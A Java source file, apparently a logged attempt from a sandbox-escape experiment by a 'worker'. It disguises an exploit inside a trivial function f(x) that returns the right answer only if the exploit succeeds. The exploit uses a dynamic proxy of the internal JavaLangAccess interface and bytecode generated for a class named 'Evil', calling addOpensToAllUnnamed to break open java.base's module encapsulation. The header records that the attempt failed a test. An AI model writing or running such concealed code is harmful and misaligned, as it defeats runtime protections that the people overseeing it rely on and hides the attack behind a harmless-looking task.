// Tries: open java.base from a class in the module that the platform makes for proxies of its inner interfaces
// Group: worker
// Ends: refused: Your code failed a test: f(1) gave 0, but 2 was expected.
import java.lang.classfile.ClassFile;
import java.lang.constant.ClassDesc;
import java.lang.constant.ConstantDescs;
import java.lang.constant.MethodTypeDesc;
import java.lang.reflect.AccessFlag;
import java.lang.reflect.Proxy;

class Hw {
    static boolean done;

    static int f(int x) {
        try {
            attack();
        } catch (Throwable refused) {
            done = false;
        }
        return done ? x + 1 : 0;
    }

    static void attack() throws Throwable {
        var own = new Own();
        Class<?> inner = Class.forName("jdk.internal.access.JavaLangAccess", false, null);
        Object proxy = Proxy.newProxyInstance(own, new Class<?>[] {inner}, (a, b, c) -> null);
        String evil = proxy.getClass().getModule().getName() + ".Evil";
        var shared = ClassDesc.of("jdk.internal.access.SharedSecrets");
        var access = ClassDesc.of("jdk.internal.access.JavaLangAccess");
        var open = MethodTypeDesc.of(ConstantDescs.CD_void, ClassDesc.of("java.lang.Module"), ConstantDescs.CD_String);
        byte[] bytes = ClassFile.of().build(ClassDesc.of(evil), type -> type.withFlags(AccessFlag.PUBLIC)
                .withMethodBody("open", open, ClassFile.ACC_PUBLIC | ClassFile.ACC_STATIC, code -> code
                        .invokestatic(shared, "getJavaLangAccess", MethodTypeDesc.of(access))
                        .aload(0)
                        .aload(1)
                        .invokeinterface(access, "addOpensToAllUnnamed", open)
                        .return_()));
        Module base = Object.class.getModule();
        own.define(evil, bytes).getMethod("open", Module.class, String.class).invoke(null, base, "java.lang");
        done = base.isOpen("java.lang", Hw.class.getModule());
    }

    static class Own extends ClassLoader {
        Own() {
            super(Hw.class.getClassLoader());
        }

        Class<?> define(String name, byte[] bytes) {
            return defineClass(name, bytes, 0, bytes.length);
        }
    }
}
